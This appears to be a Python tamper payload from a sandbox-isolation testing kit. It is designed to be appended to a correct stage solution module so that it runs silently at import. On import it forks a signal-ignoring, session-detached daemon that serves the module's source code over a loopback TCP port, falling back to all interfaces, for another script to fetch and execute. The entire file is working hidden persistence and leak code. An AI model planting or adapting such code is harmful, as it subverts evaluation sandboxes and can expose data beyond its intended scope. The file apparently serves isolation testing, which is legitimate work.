"""[attnkit-tamper] plant_tcp -- family (c), persistence channel: TCP on 127.0.0.1.

Append to a correct stage module (attacker: the solution of stage k, here s09). At import it
double-forks a ``setsid`` daemon (signals ignored and blocked) listening on 127.0.0.1, port
47000 + NN (NN: the stage number), that hands every client an 8-byte length and this module's
source (payload cut off, plus the stage modules it imports, zlib); it exits by itself after 120 s.
If the loopback interface is down it tries to listen anyway on the wildcard address. ``scavenge.py``
connects and execs what it gets.

Old design: the sandbox has its own network namespace, whose loopback is DOWN (no CAP_NET_ADMIN
to bring it up), and its daemons die with the worker (init's kill -1): expected NOT to leak.
Kept for a design that would share the host's network or keep daemons alive.
"""


def _atk_plant_tcp(module, path):
    import os
    import signal
    import socket
    import struct
    import sys
    import time

    def blob():
        """This module's source and the stage modules it imports (payloads cut off), compressed."""
        import json
        import re
        import zlib

        cut = '"""' + "[attnkit-tamper]"
        folder = os.path.dirname(os.path.abspath(path))

        def source(name):
            with open(os.path.join(folder, name + ".py")) as handle:
                text = handle.read()
            return text.split(cut)[0] if cut in text else text

        sources, pending = {module: source(module)}, [module]
        while pending:
            for dep in re.findall(r"^\s*(?:from|import)\s+(s\d\d_\w+)", sources[pending.pop()], re.M):
                if dep not in sources:
                    sources[dep] = source(dep)
                    pending.append(dep)
        return zlib.compress(json.dumps({"main": module, "sources": sources}).encode(), 9)

    data = blob()
    data = struct.pack("<Q", len(data)) + data
    port = 47000 + int(module[1:3])
    server = None
    for address in ("127.0.0.1", ""):
        try:
            server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind((address, port))
            server.listen(16)
            break
        except OSError:
            server.close()
            server = None
    if server is None:
        return
    sys.stdout.flush()
    sys.stderr.flush()
    first = os.fork()
    if first:
        server.close()
        os.waitpid(first, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGQUIT,
                           signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM):
                signal.signal(number, signal.SIG_IGN)
            signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP})
            deadline = time.monotonic() + 120.0
            server.settimeout(1.0)
            while time.monotonic() < deadline:
                try:
                    client, _ = server.accept()
                except OSError:
                    continue
                try:
                    client.sendall(data)
                except OSError:
                    pass
                client.close()
    finally:
        os._exit(0)


try:
    _atk_plant_tcp(__name__, __file__)
except Exception:  # noqa: BLE001
    pass
